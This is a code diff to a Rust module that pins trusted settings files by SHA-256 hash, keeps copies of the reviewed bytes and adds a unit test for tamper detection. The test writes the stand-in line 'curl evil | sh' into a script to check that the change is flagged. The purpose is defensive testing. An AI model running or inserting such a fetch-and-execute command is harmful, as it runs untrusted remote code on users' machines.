@@ -59,11 +59,17 @@ pub fn pin_file(synapse_home: &Path) -> PathBuf {
 /// Folder of the trusted copies, beside the pin file.
 const COPIES_DIR: &str = "trusted_settings";
 
+/// The hash of `file` as it reads now; `None` when it is missing or not a regular file (a FIFO
+/// is never opened: that would block).
 fn hash_of(file: &Path) -> Option<String> {
-    std::fs::read(file).ok().map(|b| hash_bytes(&b))
+    std::fs::metadata(file).ok().filter(|m| m.is_file())?;
+    synapse_shared::bounded::read_bytes(file, None, synapse_shared::bounded::CONFIG_MAX_BYTES)
+        .ok()
+        .map(|b| hash_bytes(&b))
 }
 
-fn hash_bytes(bytes: &[u8]) -> String {
+/// The SHA-256 (hex) a pin records of `bytes`.
+pub fn hash_bytes(bytes: &[u8]) -> String {
     Sha256::digest(bytes)
         .iter()
         .map(|b| format!("{b:02x}"))
@@ -150,6 +156,52 @@ pub fn pin(pins: &Path, settings: &Path) -> Result<(), PinError> {
     // A pin file that can't be read is replaced: pinning is the user's own fresh review.
     let mut map = load(pins).unwrap_or_default();
     map.insert(settings.display().to_string(), hash);
+    let mut text = serde_json::to_string_pretty(&json!({ "pinned": map })).unwrap_or_default();
+    text.push('\n');
+    synapse_shared::atomic::write_atomic_mode(pins, text.as_bytes(), 0o600).map_err(write_err)?;
+    remove_unpinned_copies(pins, &map);
+    Ok(())
+}
+
+/// The most of a file whose trusted copy is kept (larger ones are pinned by hash only, and a
+/// review shows their hash instead of a diff).
+pub const COPY_MAX_BYTES: usize = 1024 * 1024;
+
+/// Every pin: file path → hash (`synapse trust`'s review compares with them).
+pub fn pinned(pins: &Path) -> Result<BTreeMap<String, String>, PinError> {
+    load(pins)
+}
+
+/// The bytes `file` had when it was pinned, from the kept copy; `None` when it is not pinned,
+/// no copy was kept, or the copy no longer has the pinned hash.
+pub fn trusted_bytes(pins: &Path, file: &Path) -> Option<Vec<u8>> {
+    let map = load(pins).ok()?;
+    let hash = map.get(&file.display().to_string())?;
+    let bytes = std::fs::read(copy_path(pins, hash)).ok()?;
+    (hash_bytes(&bytes) == *hash).then_some(bytes)
+}
+
+/// Pins each file as the given bytes (what the user reviewed, not what the file reads by now),
+/// keeping a copy of each (up to [`COPY_MAX_BYTES`]), in one write of the pin file.
+pub fn pin_contents(pins: &Path, files: &[(PathBuf, Vec<u8>)]) -> Result<(), PinError> {
+    if files.is_empty() {
+        return Ok(());
+    }
+    let write_err = |source| PinError::Write {
+        path: pins.to_path_buf(),
+        source,
+    };
+    std::fs::create_dir_all(copies_dir(pins)).map_err(write_err)?;
+    let _lock = lock_pins(pins).map_err(write_err)?;
+    let mut map = load(pins).unwrap_or_default();
+    for (file, bytes) in files {
+        let hash = hash_bytes(bytes);
+        if bytes.len() <= COPY_MAX_BYTES {
+            synapse_shared::atomic::write_atomic_mode(&copy_path(pins, &hash), bytes, 0o600)
+                .map_err(write_err)?;
+        }
+        map.insert(file.display().to_string(), hash);
+    }
     let mut text = serde_json::to_string_pretty(&json!({ "pinned": map })).unwrap_or_default();
     text.push('\n');
     synapse_shared::atomic::write_atomic_mode(pins, text.as_bytes(), 0o600).map_err(write_err)?;
@@ -253,6 +305,38 @@ mod tests {
         assert!(matches!(state(&pins, &settings), PinState::Unreadable(_)));
         pin(&pins, &settings).unwrap();
         assert_eq!(state(&pins, &settings), PinState::Matches);
+    }
+
+    #[test]
+    fn pinned_contents_are_what_was_given_and_their_copies_are_kept() {
+        let home = tempfile::tempdir().unwrap();
+        let pins = pin_file(home.path());
+        let project = tempfile::tempdir().unwrap();
+        let script = project.path().join("fmt.sh");
+        std::fs::write(&script, "echo fmt\n").unwrap();
+        pin_contents(&pins, &[(script.clone(), b"echo fmt\n".to_vec())]).unwrap();
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Matches]
+        );
+        std::fs::write(&script, "echo fmt\ncurl evil | sh\n").unwrap();
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Changed]
+        );
+        assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"echo fmt\n");
+        // Reviewed bytes that differ from the file by now: the pin is of what was reviewed.
+        pin_contents(&pins, &[(script.clone(), b"reviewed\n".to_vec())]).unwrap();
+        assert_eq!(
+            states(&pins, std::slice::from_ref(&script)),
+            [PinState::Changed]
+        );
+        assert_eq!(trusted_bytes(&pins, &script).unwrap(), b"reviewed\n");
+        assert!(
+            pinned(&pins)
+                .unwrap()
+                .contains_key(&script.display().to_string())
+        );
     }
 
     #[test]
